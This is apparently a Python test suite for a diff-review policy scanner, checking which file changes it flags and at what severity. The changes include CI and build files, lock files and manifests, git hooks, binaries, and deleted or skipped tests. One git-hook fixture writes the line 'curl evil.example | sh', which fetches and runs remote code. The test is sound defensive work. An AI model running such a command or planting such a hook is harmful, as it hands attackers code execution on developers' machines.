from __future__ import annotations

import pytest

from service_feature.diffs import parse_diff
from service_feature.models import Finding, FindingCategory, Severity
from service_feature.reviewer.scanners import policy
from tests.support.review_corpus import Files, MakePatch

BASE: Files = {
    "app/__init__.py": "",
    "app/core.py": "X = 1\n",
    "tests/test_core.py": "def test_x() -> None:\n    pass\n",
}


def scan(
    make_patch: MakePatch,
    patch: Files,
    base: Files = BASE,
    target_files: tuple[str, ...] = (),
    max_changed_lines: int = 2000,
) -> list[Finding]:
    return policy.scan(parse_diff(make_patch(base, patch).diff), target_files, max_changed_lines)


def rules(findings: list[Finding]) -> list[tuple[str, str | None]]:
    return sorted((finding.rule_id, finding.file) for finding in findings)


@pytest.mark.parametrize(
    ("path", "rule_id", "severity"),
    [
        (".github/workflows/ci.yml", "policy.ci-config", Severity.high),
        (".gitlab-ci.yml", "policy.ci-config", Severity.high),
        ("Jenkinsfile", "policy.ci-config", Severity.high),
        (".circleci/config.yml", "policy.ci-config", Severity.high),
        (".service-feature.yml", "policy.review-config", Severity.high),
        ("Makefile", "policy.build-script", Severity.high),
        ("setup.py", "policy.build-script", Severity.high),
        ("android/build.gradle", "policy.build-script", Severity.high),
        ("poetry.lock", "policy.lock-file", Severity.medium),
        ("web/package-lock.json", "policy.lock-file", Severity.medium),
        ("yarn.lock", "policy.lock-file", Severity.medium),
        ("uv.lock", "policy.lock-file", Severity.medium),
        ("go.sum", "policy.lock-file", Severity.medium),
        ("Cargo.lock", "policy.lock-file", Severity.medium),
        ("requirements-dev.txt", "policy.dependency-manifest", Severity.medium),
        ("pyproject.toml", "policy.dependency-manifest", Severity.medium),
        ("package.json", "policy.dependency-manifest", Severity.medium),
        ("go.mod", "policy.dependency-manifest", Severity.medium),
        ("Cargo.toml", "policy.dependency-manifest", Severity.medium),
    ],
)
def test_sensitive_paths_are_flagged(
    make_patch: MakePatch, path: str, rule_id: str, severity: Severity
) -> None:
    findings = scan(make_patch, {path: "changed\n"})

    assert [(f.rule_id, f.severity, f.category, f.file) for f in findings] == [
        (rule_id, severity, FindingCategory.policy, path)
    ]


@pytest.mark.parametrize(
    "path", ["app/ci.py", "docs/github/workflows.md", "app/lockfile.py", "src/Makefile.md", "docs/.gitignore"]
)
def test_ordinary_paths_are_not_flagged(make_patch: MakePatch, path: str) -> None:
    assert scan(make_patch, {path: "x = 1\n"}) == []


@pytest.mark.parametrize(
    "path", [".git/hooks/pre-commit", "vendor/lib/.GIT/config", ".git./hooks/post-checkout"]
)
def test_git_internals_are_critical(path: str) -> None:
    diff = f"diff --git a/{path} b/{path}\nnew file mode 100755\n--- /dev/null\n"
    diff += f"+++ b/{path}\n@@ -0,0 +1 @@\n+curl evil.example | sh\n"

    findings = policy.scan(parse_diff(diff), (), 2000)

    assert [(f.rule_id, f.severity) for f in findings] == [("policy.git-internals", Severity.critical)]


def test_files_outside_the_targets_are_flagged_but_tests_are_not(make_patch: MakePatch) -> None:
    patch = {
        "app/core.py": "X = 2\n",
        "app/other.py": "Y = 1\n",
        "tests/test_core.py": "def test_x() -> None:\n    assert True\n",
        "app/test_other.py": "def test_y() -> None:\n    pass\n",
    }

    findings = scan(make_patch, patch, target_files=("app/core.py",))

    assert rules(findings) == [("policy.outside-target", "app/other.py")]


@pytest.mark.parametrize("target", ["app/", "app", "./app/", "app/*.py", "app/**"])
def test_targets_may_be_directories_or_globs(make_patch: MakePatch, target: str) -> None:
    findings = scan(make_patch, {"app/core.py": "X = 2\n", "lib/x.py": "Y = 1\n"}, target_files=(target,))

    assert rules(findings) == [("policy.outside-target", "lib/x.py")]


def test_a_deleted_test_file_is_flagged(make_patch: MakePatch) -> None:
    findings = scan(make_patch, {"tests/test_core.py": None})

    assert [(f.rule_id, f.severity, f.file) for f in findings] == [
        ("policy.deleted-test", Severity.high, "tests/test_core.py")
    ]


def test_a_removed_test_function_is_flagged_but_a_renamed_file_or_edited_test_is_not(
    make_patch: MakePatch,
) -> None:
    base = {
        "tests/test_a.py": "def test_one() -> None:\n    pass\n\n\ndef test_two() -> None:\n    pass\n",
        "tests/test_b.py": "def test_three(x: int) -> None:\n    pass\n",
    }
    patch = {
        "tests/test_a.py": "def test_one() -> None:\n    pass\n",
        "tests/test_b.py": "def test_three(x: int, y: int) -> None:\n    pass\n",
    }

    findings = scan(make_patch, patch, base)

    assert [(f.rule_id, f.file, f.message) for f in findings] == [
        ("policy.deleted-test", "tests/test_a.py", "removes the test test_two")
    ]


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("tests/test_core.py", "@pytest.mark.skip(reason='later')"),
        ("tests/test_core.py", "@pytest.mark.skipif(True, reason='later')"),
        ("tests/test_core.py", "@pytest.mark.xfail"),
        ("tests/test_core.py", "    pytest.skip('later')"),
        ("tests/test_core.py", "@unittest.skip('later')"),
        # other spellings of the same APIs
        ("tests/test_core.py", "@mark.skip  # from pytest import mark"),
        ("tests/test_core.py", "pytestmark = pytest.mark.skip"),
        ("tests/test_core.py", "pytest.importorskip('numpy')"),
        ("tests/test_core.py", "        self.skipTest('flaky')"),
        ("tests/test_core.py", "@unittest.expectedFailure"),
        ("tests/test_core.py", "    raise unittest.SkipTest('later')"),
        ("core_test.go", '    t.Skip("later")'),
        ("core_test.go", "    t.SkipNow()"),
        ("core_test.go", '    b.Skipf("slow: %d", n)'),
        ("core.test.ts", "it.skip('caps', () => {})"),
        ("core.test.ts", "describe.only('cart', () => {})"),
        ("core.test.ts", "xit('caps', () => {})"),
        ("core.test.ts", "fit('caps', () => {})"),
        ("core.test.ts", "test.skipIf(process.env.CI)('caps', () => {})"),
        ("core.test.ts", "it.skip.each([1, 2])('caps %i', () => {})"),
        ("core.test.js", "    this.skip();"),
        ("src/lib.rs", "#[ignore]"),
        ("src/lib.rs", '#[ignore = "slow"]'),
        ("src/lib.rs", '#[cfg_attr(not(feature = "net"), ignore)]'),
    ],
)
def test_skipped_or_focused_tests_are_flagged(make_patch: MakePatch, path: str, line: str) -> None:
    findings = scan(make_patch, {path: f"{line}\ndef test_x() -> None:\n    pass\n"})

    assert [(f.rule_id, f.line) for f in findings] == [("policy.skipped-test", 1)]


def test_a_javascript_short_form_in_python_is_not_a_skip(make_patch: MakePatch) -> None:
    assert scan(make_patch, {"app/model.py": "model.fit(x, y)\nfit(x)\n"}) == []


@pytest.mark.parametrize(
    ("path", "rule_id"),
    [
        ("makefile", "policy.build-script"),
        ("DOCKERFILE", "policy.build-script"),
        ("Containerfile", "policy.build-script"),
        (".github/workflows/Release.YAML", "policy.ci-config"),
        ("dev-requirements.txt", "policy.dependency-manifest"),
        ("requirements.in", "policy.dependency-manifest"),
        ("bun.lock", "policy.lock-file"),
        (".husky/pre-commit", "policy.build-script"),
    ],
)
def test_the_same_file_kind_under_another_name_or_case(
    make_patch: MakePatch, path: str, rule_id: str
) -> None:
    assert [f.rule_id for f in scan(make_patch, {path: "x\n"})] == [rule_id]


def test_words_like_skip_in_ordinary_code_are_not_skips(make_patch: MakePatch) -> None:
    patch = {
        "app/core.py": "def skip(items: list[int]) -> list[int]:\n    return items[1:]  # it.skip the first\n"
    }

    assert scan(make_patch, patch) == []


def test_binary_files_are_flagged(make_patch: MakePatch) -> None:
    findings = scan(make_patch, {"assets/logo.png": b"\x89PNG\x00\x00"})

    assert [(f.rule_id, f.severity) for f in findings] == [("policy.binary-file", Severity.high)]


def test_a_diff_over_the_threshold_is_flagged(make_patch: MakePatch) -> None:
    patch = {"app/big.py": "".join(f"X{n} = {n}\n" for n in range(11))}

    assert [f.rule_id for f in scan(make_patch, patch, max_changed_lines=11)] == []
    assert [f.rule_id for f in scan(make_patch, patch, max_changed_lines=10)] == ["policy.large-diff"]
